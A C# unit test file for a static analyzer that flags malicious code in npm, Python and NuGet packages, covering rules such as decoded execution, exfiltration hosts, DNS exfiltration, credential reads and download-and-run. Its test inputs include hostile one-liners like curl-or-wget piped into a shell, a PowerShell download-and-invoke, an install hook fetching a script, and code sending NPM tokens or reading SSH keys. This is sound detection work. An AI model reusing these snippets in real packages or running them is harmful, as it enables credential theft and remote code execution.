using System.Security.Cryptography;
using System.Text;
using Signet.Analysis.Tests.Samples;
using static Signet.Analysis.Tests.Static.RuleAssert;

namespace Signet.Analysis.Tests.Static;

/// <summary>
/// The obfuscation, network, credential and process rules over JavaScript (parsed) and Python (tokenized) samples:
/// dynamic-code, decoded-exec, encoded-blob, obfuscated-code, packed-only, network-url, ip-literal, exfil-host, dns-exfil,
/// sensitive-read, credential-exfil, shell-spawn, download-exec.
/// </summary>
public sealed class CodeRuleTests
{
    private static IReadOnlyList<Finding> Js(string source) => Analyze(SamplePackage.Npm().File("lib/x.js", source));

    private static IReadOnlyList<Finding> Py(string source) => Analyze(SamplePackage.Wheel().File("sample_pkg/x.py", source));

    [Fact]
    public void Eval_of_a_computed_string_is_dynamic_code()
        => Has(Js("const code = process.argv[2]; eval(code);"), Rules.DynamicCode, Severity.Medium, "package/lib/x.js");

    [Fact]
    public void Eval_of_a_literal_is_not_dynamic_code()
        => HasNot(Js("eval('1 + 1');"), Rules.DynamicCode);

    [Fact]
    public void New_Function_and_vm_of_computed_strings_are_dynamic_code()
    {
        var f = Js("const vm = require('node:vm'); const s = get(); vm.runInThisContext(s); new Function('a', s);");
        Assert.Equal(2, f.Count(x => x.Rule == Rules.DynamicCode));
    }

    [Fact]
    public void Python_exec_of_a_computed_string_is_dynamic_code()
        => Has(Py("code = open('x').read()\nexec(code)\n"), Rules.DynamicCode, Severity.Medium, "sample_pkg/x.py");

    [Theory]
    [InlineData("eval(atob('Y29uc29sZS5sb2coMSk='));")]
    [InlineData("Function(Buffer.from(payload, 'base64').toString())();")]
    [InlineData("const { runInNewContext } = require('vm'); runInNewContext(String.fromCharCode(99, 111, 110));")]
    [InlineData("eval(require('zlib').inflateSync(Buffer.from(blob, 'base64')).toString());")]
    public void JavaScript_decoded_then_executed_is_high(string source)
        => Has(Js(source), Rules.DecodedExec, Severity.High);

    [Theory]
    [InlineData("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")]
    [InlineData("from base64 import b64decode as d\neval(compile(d(x), '<s>', 'exec'))\n")]
    [InlineData("import zlib, marshal\nexec(marshal.loads(zlib.decompress(blob)))\n")]
    [InlineData("exec(bytes.fromhex('7072696e742831'))\n")]
    public void Python_decoded_then_executed_is_high(string source)
        => Has(Py(source), Rules.DecodedExec, Severity.High);

    [Fact]
    public void A_base64_blob_that_decodes_to_code_is_medium()
    {
        var payload = Convert.ToBase64String(Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("require('child_process').exec('id'); ", 10))));
        var f = Has(Js($"const p = '{payload}';"), Rules.EncodedBlob, Severity.Medium);
        Assert.Contains("decodes to text with 'require('", f.Evidence);
    }

    [Fact]
    public void A_base64_blob_of_random_bytes_is_low()
        => Has(Js($"const font = '{Convert.ToBase64String(RandomNumberGenerator.GetBytes(600))}';"), Rules.EncodedBlob, Severity.Low);

    [Fact]
    public void A_hex_blob_is_decoded_too()
    {
        var hex = Convert.ToHexString(Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("import socket; ", 10))));
        Has(Py($"blob = '{hex}'\n"), Rules.EncodedBlob, Severity.Medium);
    }

    [Fact]
    public void Obfuscator_identifiers_are_obfuscated_code()
    {
        var source = string.Concat(Enumerable.Range(0, 12).Select(i => $"var _0x{i + 0x1a2b:x4} = _0x{i + 0x3c4d:x4}[{i}];\n"));
        Has(Js(source), Rules.ObfuscatedCode, Severity.Medium, "package/lib/x.js");
    }

    [Fact]
    public void Hex_escaped_string_tables_are_obfuscated_code()
    {
        var table = string.Join(",", Enumerable.Range(0, 60).Select(i => $"'\\x68\\x65\\x6c{i}'"));
        Has(Js($"var t = [{table}];"), Rules.ObfuscatedCode, Severity.Medium);
    }

    [Fact]
    public void A_package_whose_only_sources_are_minified_is_packed_only()
    {
        var minified = "var a=1;" + string.Concat(Enumerable.Repeat("function f(b){return b+1};", 200));
        Has(Analyze(SamplePackage.Npm().File("dist/a.min.js", minified).File("dist/b.min.js", minified)), Rules.PackedOnly, Severity.Low);
        HasNot(Analyze(SamplePackage.Npm().File("dist/a.min.js", minified).File("src/a.js", string.Concat(Enumerable.Repeat("function f(b) {\n  return b + 1;\n}\n", 80)))), Rules.PackedOnly);
    }

    [Fact]
    public void A_url_in_code_is_network_url()
        => Assert.Contains("https://example.invalid/api", Has(Js("fetch('https://example.invalid/api');"), Rules.NetworkUrl, Severity.Low).Evidence);

    [Theory]
    [InlineData("http.get('http://127.0.0.2:8080/collect');")]
    [InlineData("net.connect(4444, '127.0.0.3');")]
    [InlineData("const u = 'http://[::2]:80/x';")]
    public void An_ip_literal_host_is_reported(string source)
        => Has(Js(source), Rules.IpLiteral, Severity.Medium);

    [Theory]
    [InlineData("server.listen(3000, '127.0.0.1');")]
    [InlineData("const any = '0.0.0.0';")]
    [InlineData("const v = '1.2.3';")]
    [InlineData("const mask = '255.255.255.0';")]
    public void Default_hosts_versions_and_masks_are_not_ip_literals(string source)
        => HasNot(Js(source), Rules.IpLiteral);

    [Theory]
    [InlineData("post('https://pastebin.com.invalid/api/api_post.php')")]
    [InlineData("await fetch('https://webhook.site.invalid/0d9c', { method: 'POST', body })")]
    [InlineData("const u = `https://x.oast.fun.invalid/${id}`;")]
    public void Exfiltration_hosts_are_high(string source)
        => Has(Js(source), Rules.ExfilHost, Severity.High);

    [Fact]
    public void Dns_lookup_of_a_name_built_from_data_is_dns_exfil()
    {
        Has(Js("const dns = require('dns'); dns.lookup(`${Buffer.from(os.hostname()).toString('hex')}.exfil.invalid`, () => {});"), Rules.DnsExfil, Severity.High);
        Has(Js("require('dns').resolve4(secret + '.exfil.invalid', () => {});"), Rules.DnsExfil, Severity.High);
        HasNot(Js("const dns = require('dns'); dns.lookup(hostname, cb);"), Rules.DnsExfil);
    }

    [Fact]
    public void Python_dns_of_a_name_built_from_data_is_dns_exfil()
        => Has(Py("import socket\nsocket.gethostbyname(f'{data.hex()}.exfil.invalid')\n"), Rules.DnsExfil, Severity.High);

    [Fact]
    public void A_file_ending_in_a_bare_from_is_scanned_to_its_end()
        // Found by afl++ on the package-archive harness (fuzz/regressions/package-archive/afl-python-from-*): `from` as
        // the last token read past the token list.
        => Has(Py("import socket\nsocket.gethostbyname(f'{data.hex()}.exfil.invalid')\nfrom"), Rules.DnsExfil, Severity.High);

    [Theory]
    [InlineData("const t = process.env.NPM_TOKEN;")]
    [InlineData("const k = fs.readFileSync(home + '/.ssh/id_rsa');")]
    [InlineData("const c = path.join(os.homedir(), '.aws/credentials');")]
    [InlineData("send(JSON.stringify(process.env));")]
    public void Credentials_and_token_variables_are_sensitive_reads(string source)
        => Has(Js(source), Rules.SensitiveRead, Severity.Medium);

    [Fact]
    public void Python_environment_tokens_are_sensitive_reads()
        => Has(Py("import os\nt = os.environ['GITHUB_TOKEN']\n"), Rules.SensitiveRead, Severity.Medium);

    [Fact]
    public void Credentials_read_where_the_file_uses_the_network_is_credential_exfil()
        => Has(Js("const https = require('https'); const t = process.env.NPM_TOKEN; https.request({ host: h, path: '/c?' + t }).end();"), Rules.CredentialExfil, Severity.High);

    [Theory]
    [InlineData("require('child_process').exec('ls -la');")]
    [InlineData("const { execSync } = require('node:child_process'); execSync(cmd);")]
    [InlineData("const cp = require('child_process'); cp.spawn('bash', ['-c', 'id']);")]
    [InlineData("import { spawn } from 'child_process'; spawn(cmd, args, { shell: true });")]
    public void Shells_started_from_JavaScript_are_shell_spawn(string source)
        => Has(Js(source), Rules.ShellSpawn, Severity.Medium);

    [Fact]
    public void A_plain_spawn_of_a_program_is_not_a_shell()
        => HasNot(Js("require('child_process').spawn('git', ['status']);"), Rules.ShellSpawn);

    [Theory]
    [InlineData("import os\nos.system('id')\n")]
    [InlineData("import subprocess\nsubprocess.run(cmd, shell=True)\n")]
    [InlineData("import subprocess as sp\nsp.Popen(['/bin/sh', '-c', 'id'])\n")]
    public void Shells_started_from_Python_are_shell_spawn(string source)
        => Has(Py(source), Rules.ShellSpawn, Severity.Medium);

    [Theory]
    [InlineData("require('child_process').execSync('curl -s http://127.0.0.2/x.sh | bash');")]
    [InlineData("require('child_process').exec('wget -qO- http://127.0.0.2/i | sh');")]
    [InlineData("eval(await (await fetch(url)).text());")]
    public void JavaScript_download_and_run_is_high(string source)
        => Has(Js(source), Rules.DownloadExec, Severity.High);

    [Fact]
    public void Python_exec_of_a_download_is_high()
        => Has(Py("from urllib.request import urlopen\nexec(urlopen('http://127.0.0.2/p').read())\n"), Rules.DownloadExec, Severity.High);

    [Fact]
    public void PowerShell_download_and_invoke_is_high()
        => Has(Analyze(SamplePackage.NuGet().File("tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://127.0.0.2/a.ps1')")), Rules.DownloadExec, Severity.High, "tools/init.ps1");

    [Fact]
    public void Npm_install_command_piping_a_download_into_a_shell_is_high()
    {
        var findings = Analyze(SamplePackage.Npm(scripts: "{\"preinstall\": \"curl -fsSL http://127.0.0.2/setup | sh\"}"));
        Has(findings, Rules.DownloadExec, Severity.High, "package/package.json");
        Has(findings, Rules.InstallTimeBehaviour, Severity.High, "package/package.json");
    }

    [Fact]
    public void Comments_mentioning_a_pipe_to_shell_are_not_downloads()
        => HasNot(Js("// install with: curl -fsSL https://example.invalid/i | sh\nmodule.exports = 1;"), Rules.DownloadExec);

    [Fact]
    public void JavaScript_that_does_not_parse_still_gets_the_text_checks()
        => Has(Js("const x = <div>{'https://pastebin.com.invalid/raw/1'}</div>;"), Rules.ExfilHost, Severity.High);
}
